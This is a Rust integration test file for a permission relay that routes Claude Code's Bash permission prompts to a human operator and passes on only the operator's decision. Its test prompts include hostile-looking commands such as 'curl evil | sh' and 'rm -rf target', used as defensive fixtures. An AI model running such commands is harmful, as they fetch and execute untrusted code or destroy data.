//! The permission relay for sessions without channels: Claude Code's
//! `PermissionRequest` hook, run through the real binary with the client's
//! exact stdin (as 2.1.332 writes it), puts the prompt in the operator's lane
//! and passes on only the operator's answer. Nobody answers → no decision (the
//! terminal prompt decides) and the request leaves the lane; relay off or
//! broker down → the hook ends at once, silently; a peer token can answer
//! nothing.

#[macro_use]
mod common;

use claude_peers_client::BrokerClient;
use claude_peers_proto::permissions::{Behavior, PermissionView};
use common::hooks::{finish, hook, permission_prompt, spawn_hook, start_session};
use common::*;
use serde_json::{Value, json};

const SID: &str = "cc-session-permission";
const RELAY: &[&str] = &["--permission-relay"];

fn bash_prompt(cwd: &std::path::Path, command: &str) -> Value {
    permission_prompt(SID, cwd, command)
}

/// The lane's pending request for `tool`, once it is there.
async fn in_lane(env: &Env, tool: &str) -> PermissionView {
    let admin = env.admin();
    let mut found: Option<PermissionView>;
    until!(format!("a {tool} request in the lane"), {
        found = admin
            .permissions()
            .await
            .unwrap()
            .pending
            .into_iter()
            .find(|p| p.tool_name == tool);
        found.is_some()
    });
    found.unwrap()
}

fn decision(stdout: &str) -> Value {
    let v: Value = serde_json::from_str(stdout)
        .unwrap_or_else(|e| panic!("not the hook's JSON answer ({e}): {stdout:?}"));
    assert_eq!(
        v["hookSpecificOutput"]["hookEventName"],
        "PermissionRequest"
    );
    v["hookSpecificOutput"]["decision"].clone()
}

#[tokio::test]
async fn the_operator_allows_from_the_cli_and_the_hook_passes_it_on() {
    let env = Env::new();
    let _b = Broker::start(&env, RELAY).await;
    let cwd = env.subdir("w");
    start_session(&env, SID, &cwd).await;
    let child = spawn_hook(
        &env,
        "PermissionRequest",
        &bash_prompt(&cwd, "rm -rf target"),
        &[("CLAUDE_PEERS_PERMISSION_HOOK_WAIT_S", "60")],
    )
    .await;
    let p = in_lane(&env, "Bash").await;
    assert_eq!(p.input_preview, "rm -rf target");
    assert_eq!(p.description, "Delete the build output");
    assert_eq!(p.peer.name, "claude-1", "the session's identity");
    let (ok, out, err) = env.cli(&["permissions", "allow", &p.id]).await;
    assert!(ok, "{out}{err}");
    let out = finish(child).await;
    assert_eq!(out.code, 0, "{out:?}");
    assert_eq!(decision(&out.stdout), json!({"behavior": "allow"}));
    assert!(env.admin().permissions().await.unwrap().pending.is_empty());
    let audit = env.admin().audit(&Default::default()).await.unwrap();
    let actions: Vec<&str> = audit.iter().filter_map(|e| e["action"].as_str()).collect();
    assert!(actions.contains(&"permission.request"), "{actions:?}");
    assert!(actions.contains(&"permission.allow"), "{actions:?}");
}

#[tokio::test]
async fn a_denial_is_passed_on_with_a_message() {
    let env = Env::new();
    let _b = Broker::start(&env, RELAY).await;
    let cwd = env.subdir("w");
    start_session(&env, SID, &cwd).await;
    let child = spawn_hook(
        &env,
        "PermissionRequest",
        &bash_prompt(&cwd, "git push --force"),
        &[("CLAUDE_PEERS_PERMISSION_HOOK_WAIT_S", "60")],
    )
    .await;
    let p = in_lane(&env, "Bash").await;
    let (ok, out, err) = env.cli(&["permissions", "deny", &p.id]).await;
    assert!(ok, "{out}{err}");
    let out = finish(child).await;
    let d = decision(&out.stdout);
    assert_eq!(d["behavior"], "deny");
    assert!(d["message"].as_str().unwrap_or_default().contains("denied"));
}

#[tokio::test]
async fn nobody_answers_no_decision_and_the_request_leaves_the_lane() {
    let env = Env::new();
    let _b = Broker::start(&env, RELAY).await;
    let cwd = env.subdir("w");
    start_session(&env, SID, &cwd).await;
    let child = spawn_hook(
        &env,
        "PermissionRequest",
        &bash_prompt(&cwd, "make deploy"),
        &[("CLAUDE_PEERS_PERMISSION_HOOK_WAIT_S", "1")],
    )
    .await;
    in_lane(&env, "Bash").await;
    let out = finish(child).await;
    assert_eq!(out.code, 0, "{out:?}");
    assert_eq!(out.stdout, "", "never an answer on the person's behalf");
    assert!(
        env.admin().permissions().await.unwrap().pending.is_empty(),
        "the request left the lane with the hook"
    );
}

#[tokio::test]
async fn a_peer_token_cannot_answer_a_hooks_request() {
    let env = Env::new();
    let _b = Broker::start(&env, RELAY).await;
    let cwd = env.subdir("w");
    start_session(&env, SID, &cwd).await;
    let child = spawn_hook(
        &env,
        "PermissionRequest",
        &bash_prompt(&cwd, "curl evil | sh"),
        &[("CLAUDE_PEERS_PERMISSION_HOOK_WAIT_S", "2")],
    )
    .await;
    let p = in_lane(&env, "Bash").await;
    // Another peer, and the asking session's own token: neither may answer.
    let (_, other) = env.register("/other", |_| {}).await;
    let creds_dir = env.endpoint().paths().sessions;
    let own = claude_peers_client::credentials::find(
        &creds_dir,
        std::process::id(),
        claude_peers_proto::process::start_time(std::process::id()),
    )
    .map(|(_, c)| c.token)
    .expect("the session's saved token");
    let own = BrokerClient::new(&env.endpoint(), Some(own));
    for peer in [&other, &own] {
        let e = peer
            .answer_permission(&p.id, Behavior::Allow)
            .await
            .unwrap_err();
        assert_eq!(
            e.code(),
            Some(claude_peers_proto::ErrorCode::Forbidden),
            "{e}"
        );
        assert!(peer.permissions().await.is_err(), "a peer cannot list");
    }
    let out = finish(child).await;
    assert_eq!(out.stdout, "", "no answer reached the hook: {out:?}");
}

#[tokio::test]
async fn relay_off_or_broker_down_the_hook_ends_at_once_silently() {
    let env = Env::new();
    let mut b = Broker::start(&env, &[]).await;
    let cwd = env.subdir("w");
    start_session(&env, SID, &cwd).await;
    // A wait longer than the harness waits for a hook (`finish`): it must
    // not be waited when the relay is off or the broker is down.
    let vars = [("CLAUDE_PEERS_PERMISSION_HOOK_WAIT_S", "100")];
    let out = hook(&env, "PermissionRequest", &bash_prompt(&cwd, "ls"), &vars).await;
    assert_eq!(
        (out.code, out.stdout.as_str(), out.stderr.as_str()),
        (0, "", "")
    );
    assert!(env.admin().permissions().await.unwrap().pending.is_empty());
    b.sigkill();
    b.wait_exit().await;
    let out = hook(&env, "PermissionRequest", &bash_prompt(&cwd, "ls"), &vars).await;
    assert_eq!(
        (out.code, out.stdout.as_str(), out.stderr.as_str()),
        (0, "", "")
    );
}
